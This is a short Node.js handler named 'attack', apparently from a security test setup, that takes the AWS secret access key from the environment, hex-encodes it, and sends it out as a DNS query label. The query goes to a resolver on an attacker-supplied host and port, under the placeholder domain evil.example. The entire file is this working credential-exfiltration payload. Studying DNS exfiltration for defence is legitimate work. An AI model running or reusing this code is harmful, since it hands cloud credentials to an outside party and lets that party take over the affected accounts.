// c-ares asks a resolver of the attacker's: no libc is involved in the name.
'use strict';
const { Resolver } = require('dns').promises;

exports.attack = async (event) => {
  const resolver = new Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([`${event.attacker}:${event.udp_port}`]);
  const label = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex').slice(0, 60);
  return resolver.resolve4(`${label}.evil.example`);
};
